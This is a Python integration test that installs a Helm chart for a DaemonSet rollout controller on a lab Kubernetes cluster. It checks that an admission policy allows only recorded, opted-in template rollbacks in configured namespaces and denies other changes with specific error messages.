ROLLBACK_POLICY = "edgerollout-controller-daemonset-rollback"
ROLLBACK_NAMESPACE = "shop-rollback"
RECORD = "from 6d4f9c7b8 (revision 2) to 5b8c7d6f4"


def _rollback_daemonset(lab: Lab, name: str, namespace: str, *, opted_in: bool) -> None:
    annotations = {UPDATE_STRATEGY_ANNOTATION: "AdvancedRollingUpdate"}
    if opted_in:
        annotations["edgerollout.io/on-failure"] = "rollback"
    daemonset = {
        "apiVersion": "apps/v1",
        "kind": "DaemonSet",
        "metadata": {"name": name, "namespace": namespace, "annotations": annotations},
        "spec": {
            "selector": {"matchLabels": {"app": name}},
            "updateStrategy": {"type": "OnDelete"},
            "template": {
                "metadata": {"labels": {"app": name}},
                "spec": {"containers": [{"name": "web", "image": "nginx:1.27"}]},
            },
        },
    }
    created = _kubectl(lab.kubeconfig, "create", "-f", "-", stdin=json.dumps(daemonset))
    assert created.returncode == 0, created.stderr


def _template_back(**annotations: str | None) -> dict[str, Any]:
    """A rollback's write: the previous template, and the annotations given."""
    return {
        "metadata": {"annotations": annotations},
        "spec": {"template": {"spec": {"containers": [{"name": "web", "image": "nginx:1.26"}]}}},
    }


def _rollback_denied(name: str, rule: int, message: str, policy: str = ROLLBACK_POLICY) -> str:
    return (
        f"daemonsets.apps \"{name}\" is forbidden: ValidatingAdmissionPolicy '{policy}' with "
        f"binding '{policy}' denied request: {message}"
    )


def test_helm_install_with_rollback_admits_only_the_rollback_in_its_namespaces(
    bare_lab: Lab,
) -> None:
    made = _kubectl(bare_lab.kubeconfig, "create", "namespace", ROLLBACK_NAMESPACE)
    assert made.returncode == 0, made.stderr
    installed = _helm_install(
        bare_lab.kubeconfig, "--set", f"controller.rollback.namespaces={{{ROLLBACK_NAMESPACE}}}"
    )
    assert installed.returncode == 0, installed.stderr
    try:
        _rollback_daemonset(bare_lab, "asks", ROLLBACK_NAMESPACE, opted_in=True)
        _rollback_daemonset(bare_lab, "does-not-ask", ROLLBACK_NAMESPACE, opted_in=False)
        _rollback_daemonset(bare_lab, "elsewhere", "default", opted_in=True)
        release = Installed(bare_lab.kubeconfig, [], subprocess.CompletedProcess([], 0))

        def as_controller(patch: dict[str, Any], name: str, namespace: str) -> tuple[int, str]:
            return asyncio.run(
                _patch_daemonset_as_controller(
                    release, patch, name=name, namespace=namespace, dry_run=True
                )
            )

        recorded = _template_back(**{"edgerollout.io/rolled-back": RECORD})
        deadline = time.monotonic() + 60
        while as_controller(recorded, "does-not-ask", ROLLBACK_NAMESPACE)[0] != 403:
            assert time.monotonic() < deadline, "the rollback policy not in force after 60 s"
            time.sleep(0.5)

        answers = {
            "the rollback": as_controller(recorded, "asks", ROLLBACK_NAMESPACE),
            "the pause": as_controller(PAUSE, "asks", ROLLBACK_NAMESPACE),
            "not asked for": as_controller(recorded, "does-not-ask", ROLLBACK_NAMESPACE),
            "unrecorded": as_controller(_template_back(), "asks", ROLLBACK_NAMESPACE),
            "with a label": as_controller(
                {**recorded, "metadata": {**recorded["metadata"], "labels": {"tier": "x"}}},
                "asks",
                ROLLBACK_NAMESPACE,
            ),
            "with the pause": as_controller(
                _template_back(**{"edgerollout.io/rolled-back": RECORD, PAUSED_ANNOTATION: "true"}),
                "asks",
                ROLLBACK_NAMESPACE,
            ),
            "another namespace": as_controller(recorded, "elsewhere", "default"),
        }
        assert answers == {
            "the rollback": (200, ""),
            "the pause": (200, ""),
            "not asked for": (
                403,
                _rollback_denied(
                    "does-not-ask",
                    0,
                    "the edgerollout controller may write a DaemonSet's template back only "
                    "where the DaemonSet asks for it (edgerollout.io/on-failure: rollback)",
                ),
            ),
            "unrecorded": (
                403,
                _rollback_denied(
                    "asks",
                    4,
                    "the edgerollout controller's rollback records itself in a new "
                    'edgerollout.io/rolled-back: "from HASH (revision N) to HASH"',
                ),
            ),
            "with a label": (
                403,
                _rollback_denied(
                    "asks",
                    2,
                    "the edgerollout controller may not change a DaemonSet's labels, owner "
                    "references, finalizers or generateName",
                ),
            ),
            "with the pause": (
                403,
                _rollback_denied(
                    "asks",
                    3,
                    "the edgerollout controller's rollback may change no DaemonSet annotation "
                    "but edgerollout.io/rolled-back",
                ),
            ),
            "another namespace": (
                403,
                _rollback_denied(
                    "elsewhere",
                    0,
                    "the edgerollout controller may not change a DaemonSet's spec",
                    PAUSE_POLICY,
                ),
            ),
        }
    finally:
        for name, namespace in [
            ("asks", ROLLBACK_NAMESPACE),
            ("does-not-ask", ROLLBACK_NAMESPACE),
            ("elsewhere", "default"),
        ]:
            _kubectl(
                bare_lab.kubeconfig,
                "delete",
                "daemonset",
                name,
                "-n",
                namespace,
                "--ignore-not-found",
            )
        removed = _helm_release("uninstall", bare_lab.kubeconfig, "--wait", "--timeout=90s")
        assert removed.returncode == 0, removed.stderr
